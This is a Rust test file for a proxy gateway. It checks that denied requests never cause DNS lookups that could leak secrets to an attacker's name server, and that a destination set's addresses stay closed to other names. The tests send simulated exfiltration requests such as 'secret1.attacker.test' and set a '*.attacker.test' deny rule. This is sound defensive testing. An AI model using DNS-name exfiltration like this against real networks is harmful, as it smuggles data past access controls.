//! Data exfiltration by the names of denied requests.
//!
//! A program that may reach nothing outside requests `SECRET.attacker.test`. The request is denied, but if
//! the gateway looks the name up first, the name server of `attacker.test` gets the secret. The attacker
//! spends one refused request for each 200 bytes or so. So a name is looked up only where a rule allows the
//! name itself, or where the user's `resolve_for_networks` gives up this protection.

use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, TcpStream};

use super::footprint::Footprint;
use crate::harness::{Gateway, LOCAL_USER};
use crate::name_server::NameServer;
use crate::peers::{
    Destination, check_echo, connect_from, connect_request, read_exactly, read_reply, read_response,
    socks_request,
};

const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
const NEIGHBOUR: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
const TRUSTED: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);

const ROUNDS: usize = 40;

/// The attacker has network rules for every port. The neighbour has a rule by name, and for the third user
/// any name may be looked up.
const USERS: &str = r#"
[[user]]
name = "neighbour"
from = ["127.0.0.2/32"]
allow = ["@lab"]
[[user]]
name = "trusted"
from = ["127.0.0.3/32"]
allow = ["127.0.0.0/8"]
deny = ["*.attacker.test"]
resolve_for_networks = true
[destinations.lab]
to = ["*.lab.test"]
class = "internal"
"#;

/// The attacker's names resolve to an address that no rule opens, all others to this machine.
fn name_server() -> NameServer {
    NameServer::start(|name| {
        let is_attackers = name.ends_with("attacker.test");
        vec![IpAddr::V4(if is_attackers { Ipv4Addr::new(192, 0, 2, 1) } else { Ipv4Addr::LOCALHOST })]
    })
}

/// Requests `target` from `source` by CONNECT; returns the connection and the status.
fn connect(gateway: &Gateway, source: Ipv4Addr, target: &str) -> (TcpStream, u16) {
    let mut stream = connect_from(source, gateway.listeners[0]);
    stream.write_all(connect_request(target).as_bytes()).unwrap();
    let status = read_response(&mut stream).status;
    (stream, status)
}

/// Requests `host` from `source` by SOCKS5; returns the reply.
fn socks5(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u8 {
    let mut stream = connect_from(source, gateway.listeners[0]);
    stream.write_all(&[&[5, 1, 0][..], &socks_request(host, 443)].concat()).unwrap();
    assert_eq!(read_exactly(&mut stream, 2), [5, 0]);
    read_reply(&mut stream)
}

/// Requests a page of `host` from `source`; returns the status.
fn request(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u16 {
    let mut stream = connect_from(source, gateway.listeners[0]);
    let head = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    stream.write_all(head.as_bytes()).unwrap();
    read_response(&mut stream).status
}

#[test]
fn denied_name_never_reaches_a_name_server() {
    let (server, destination) = (name_server(), Destination::echo());
    let gateway = Gateway::start(&format!("{LOCAL_USER}{USERS}{}", server.configuration()));
    let port = destination.address.port();
    let mut tunnelled = 0;
    let served = |round: usize| {
        let (mut stream, status) = connect(&gateway, NEIGHBOUR, &format!("host{round}.lab.test:{port}"));
        if status == 200 {
            check_echo(&mut stream, b"a request of the neighbour's");
        }
        usize::from(status == 200)
    };
    tunnelled += served(0);
    gateway.await_metric("tollgate_connections_active", 0.0);
    let before = Footprint::measure(&gateway).with_spare(16);
    for round in 1..=ROUNDS {
        let name = format!("secret{round}.attacker.test");
        assert_eq!(connect(&gateway, ATTACKER, &format!("{name}:443")).1, 403);
        assert_eq!(socks5(&gateway, ATTACKER, &name), 2);
        assert_eq!(request(&gateway, ATTACKER, &name), 403);
        tunnelled += served(round);
    }
    assert_eq!(tunnelled, ROUNDS + 1, "the neighbour is served");
    let queried = server.queried();
    assert!(queried.contains("host1.lab.test"), "the server records its queries: {queried:?}");
    assert!(!queried.iter().any(|name| name.ends_with("attacker.test")), "{queried:?}");
    gateway.await_metric("tollgate_connections_active", 0.0);
    gateway.await_metric("tollgate_handshakes_active", 0.0);
    // A thread's first flow may open files that it keeps.
    before.await_return(&gateway);
}

/// The name servers of an allowed name can resolve it to any address, also to those that a set opens for its
/// own names. They must stay closed to it, or that set would open them to every name.
#[test]
fn addresses_of_a_set_are_open_to_its_names_alone() {
    let destination = Destination::echo();
    let server = NameServer::start(|_| vec![IpAddr::V4(Ipv4Addr::LOCALHOST)]);
    let gateway = Gateway::start(&format!(
        r#"
[[user]]
name = "me"
from = ["127.0.0.1/32"]
allow = ["@lab", "*.attacker.test"]
[destinations.lab]
to = ["*.lab.test"]
addresses = ["127.0.0.0/8"]
{}"#,
        server.configuration()
    ));
    let port = destination.address.port();
    for round in 0..ROUNDS {
        let (mut stream, status) = connect(&gateway, ATTACKER, &format!("host{round}.lab.test:{port}"));
        assert_eq!(status, 200);
        check_echo(&mut stream, b"by a name of the set");
        assert_eq!(connect(&gateway, ATTACKER, &format!("host{round}.attacker.test:{port}")).1, 403);
        assert_eq!(connect(&gateway, ATTACKER, &format!("127.0.0.1:{port}")).1, 403);
    }
    assert_eq!(destination.accepted(), ROUNDS as u64, "no denied request reached it");
    let denied = gateway.await_log_line("the denial", |line| line["reason"] == "loopback_address");
    assert_eq!(denied["rule"], "user:me/allow[1] *.attacker.test");
}

#[test]
fn resolve_for_networks_looks_up_any_name() {
    let (server, destination) = (name_server(), Destination::echo());
    let gateway = Gateway::start(&format!("{USERS}{}", server.configuration()));
    let port = destination.address.port();
    let (mut stream, status) = connect(&gateway, TRUSTED, &format!("any.elsewhere.test:{port}"));
    assert_eq!(status, 200);
    check_echo(&mut stream, b"behind a network rule");
    assert_eq!(connect(&gateway, TRUSTED, "secret.attacker.test:443").1, 403, "a deny rule comes first");
    assert_eq!(server.queried().into_iter().collect::<Vec<_>>(), ["any.elsewhere.test"]);
}
